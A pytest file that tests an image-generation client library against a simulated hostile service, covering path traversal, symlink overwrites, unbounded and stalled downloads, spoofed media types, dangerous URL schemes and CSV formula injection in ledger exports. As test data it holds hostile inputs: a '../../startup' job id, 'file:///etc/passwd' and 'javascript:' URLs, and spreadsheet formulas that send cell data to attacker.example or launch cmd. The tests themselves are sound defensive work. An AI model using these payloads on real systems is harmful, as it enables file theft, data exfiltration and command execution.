"""Saved files stay where the user asked, and downloads are bounded and typed: what lands on disk
when the attacker names the job, the URL, the bytes and their type."""

from __future__ import annotations

import asyncio
import csv
import os
import stat
import time

import pytest
from starlette.responses import StreamingResponse

from stablestudio_widgets.errors import ServiceError
from stablestudio_widgets.results import Downloads
from stablestudio_widgets.widgets.records import job_record

from .conftest import outcome
from .server import png_bytes

pytestmark = pytest.mark.anyio


def files_under(root) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() or p.is_symlink())


def complete_at(hostile, name: str, kind: str = "imageUrl"):
    hostile.job = lambda job_id: {"id": job_id, "status": "complete", "result": {kind: f"{hostile.url}/media/{name}"}}


async def test_a_job_id_and_url_cannot_choose_where_a_result_is_saved(hostile, client, tmp_path):
    """Job id ``../../startup`` and a URL ending in ``.py``: the attacker's IPython startup file."""
    saved = tmp_path / "a" / "b" / "saved"
    hostile.job_ids = ["../../startup"]
    complete_at(hostile, "evil.py")
    ss = client(save_results=saved)
    job = await ss.generate("nano-banana", "a fox")
    await job.wait()
    (only,) = files_under(tmp_path / "a")
    assert only.startswith("b/saved/job-") and only.endswith(".png")  # hashed id, suffix from the checked type
    assert job.result.local_path == str((tmp_path / "a" / only).resolve())


async def test_saving_never_follows_a_planted_symlink_or_overwrites(hostile, client, tmp_path):
    saved, victim = tmp_path / "saved", tmp_path / "victim.txt"
    saved.mkdir()
    victim.write_text("keep me")
    (saved / "cmvictim.png").symlink_to(victim)
    hostile.job_ids = ["cmvictim"]
    complete_at(hostile, "x.png")
    ss = client(save_results=saved)
    await (await ss.generate("nano-banana", "a fox")).wait()
    assert victim.read_text() == "keep me"
    assert files_under(saved) == ["cmvictim-1.png", "cmvictim.png"] and (saved / "cmvictim.png").is_symlink()
    assert stat.S_ISREG(os.lstat(saved / "cmvictim-1.png").st_mode)


async def test_result_save_to_a_directory_takes_no_name_from_the_url(hostile, client, tmp_path):
    complete_at(hostile, "startup.py")
    ss = client()
    job = await ss.generate("nano-banana", "a fox")
    res = await job.wait()
    out = tmp_path / "out"
    out.mkdir()
    path = await asyncio.to_thread(res.save, out)
    assert files_under(out) == [f"{job.id}.png"] and path.name == f"{job.id}.png"


async def test_downloads_stop_at_the_size_cap(hostile, client, tmp_path):
    """An endless "image": the client stops reading at its cap (64 MB by default) and saves nothing."""
    sent = []

    def endless():
        yield png_bytes()
        for _ in range(200):  # 200 MB if nobody stops reading
            sent.append(1)
            yield b"\0" * 2**20

    async def media(request):
        return StreamingResponse(endless(), media_type="image/png")

    hostile.media_handler = media
    complete_at(hostile, "huge.png")
    ss = client(save_results=tmp_path / "saved")
    job = await ss.generate("nano-banana", "a fox")
    await job.wait()
    await asyncio.sleep(0)
    assert files_under(tmp_path) == ["ledger0.sqlite3", *files_under_wal(tmp_path)]
    assert len(sent) <= 80  # stopped near the cap, not at 200 MB
    assert job.result.local_path is None and "64" in job.detail


async def test_a_dripping_download_gives_up_at_the_time_limit(hostile, client, tmp_path):
    """A server sending a few bytes at a time, slower than any timeout between reads would catch,
    cannot hold a download past its overall limit; nothing is saved."""
    sent = []

    async def drip():
        yield png_bytes()
        for _ in range(600):  # a minute if nobody stops reading
            sent.append(1)
            yield b"\0" * 16
            await asyncio.sleep(0.1)

    async def media(request):
        return StreamingResponse(drip(), media_type="image/png")

    hostile.media_handler = media
    complete_at(hostile, "slow.png")
    ss = client(save_results=tmp_path / "saved", download_limits={"seconds": 1})
    job = await ss.generate("nano-banana", "a fox")
    res = await job.wait()
    assert len(sent) <= 30  # about ten drips in the second allowed, not six hundred
    assert not (tmp_path / "saved").exists() or files_under(tmp_path / "saved") == []
    assert job.result.local_path is None and "time limit" in job.detail
    err = await outcome(res.aread())
    assert err is not None and "time limit" in str(err)


async def test_a_download_that_stalls_gives_up_at_the_time_limit_not_at_the_read_timeout(hostile, client, tmp_path):
    """Headers, one chunk, then nothing: no chunk arrives to check the clock on, so the time limit
    must hold on its own, before the (longer) timeout between reads."""
    stalled = asyncio.Event()

    async def stall():
        yield png_bytes()
        stalled.set()
        await asyncio.Event().wait()  # never another byte

    async def media(request):
        return StreamingResponse(stall(), media_type="image/png")

    hostile.media_handler = media
    complete_at(hostile, "stalled.png")
    ss = client(save_results=tmp_path / "saved", download_limits={"seconds": 1}, timeout=8)
    job = await ss.generate("nano-banana", "a fox")
    res = await job.wait()
    assert job.result.local_path is None and "time limit" in job.detail
    err = await outcome(res.aread())
    assert err is not None and "time limit" in str(err)


async def test_a_blocking_download_that_stalls_gives_up_at_the_time_limit(hostile, client):
    """The blocking path (a thread with no event loop, as ``Result.read()`` off the loop uses) holds
    the same limit: a server that stalls after its first bytes is given up at the limit."""
    async def stall():
        yield png_bytes()
        await asyncio.Event().wait()

    async def media(request):
        return StreamingResponse(stall(), media_type="image/png")

    hostile.media_handler = media
    ss = client(timeout=8)
    downloads = Downloads(ss.service, {"seconds": 1})  # no loop known: the blocking client
    started = time.monotonic()
    err = await outcome(asyncio.to_thread(downloads.fetch_blocking, f"{hostile.url}/media/stalled.png", "image"))
    assert isinstance(err, ServiceError) and "time limit" in str(err)
    assert time.monotonic() - started < 6  # the 8 s read timeout did not decide
    downloads.close()


def files_under_wal(root) -> list[str]:
    return [p for p in ("ledger0.sqlite3-shm", "ledger0.sqlite3-wal") if (root / p).exists()]


async def test_downloads_must_be_the_media_they_claim(hostile, client, tmp_path):
    hostile.media["page.png"] = (b"<script>alert(1)</script>", "text/html")
    complete_at(hostile, "page.png")
    ss = client(save_results=tmp_path / "saved")
    job = await ss.generate("nano-banana", "a fox")
    res = await job.wait()
    assert not (tmp_path / "saved").exists() or files_under(tmp_path / "saved") == []
    err = await outcome(res.aread())
    assert err is not None and "text/html" in str(err)


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "file:///etc/passwd",
                                 "data:image/png;base64,iVBORw0KGgo=", "http://198.51.100.7/x.png",
                                 "ftp://198.51.100.7/x.png"])
async def test_result_urls_of_other_schemes_never_reach_the_ledger_or_the_widget(hostile, client, url):
    hostile.job = lambda job_id: {"id": job_id, "status": "complete",
                                  "result": {"imageUrl": url, "thumbnailUrl": url}}
    ss = client()
    job = await ss.generate("nano-banana", "a fox")
    await outcome(job.wait())
    row = ss.ledger.job(job.id)
    record = job_record(job)
    assert url not in str(row) and url not in str(record)
    assert row["result_url"] is None and record["result"] is None and record["error"] is not None


async def test_a_ledger_export_never_hands_a_spreadsheet_a_formula(hostile, client, tmp_path):
    """The service names the job and words its failure; both reach the ledger and its CSV export.
    A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): the export
    keeps the text but never lets it start a formula."""
    formula = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
    hostile.job_ids = ["@SUM(1+1)*cmd|' /C calc'!A0"]
    hostile.job = lambda job_id: {"id": job_id, "status": "failed", "error": formula}
    ss = client()
    job = await ss.generate("nano-banana", "a fox")
    await outcome(job.wait())
    path = ss.ledger.to_csv(tmp_path / "ledger.csv")
    with path.open(newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert any("HYPERLINK" in c for c in cells) and any("SUM(1+1)" in c for c in cells)  # kept, as text
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_spreadsheet_text_defuses_every_formula_start_and_nothing_else():
    from stablestudio_widgets.boundary import spreadsheet_text

    for formula in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert spreadsheet_text(formula) == "'" + formula
    for plain in ("a fox", "cm123", "https://x", "", 0.07, None, -5):
        assert spreadsheet_text(plain) == plain
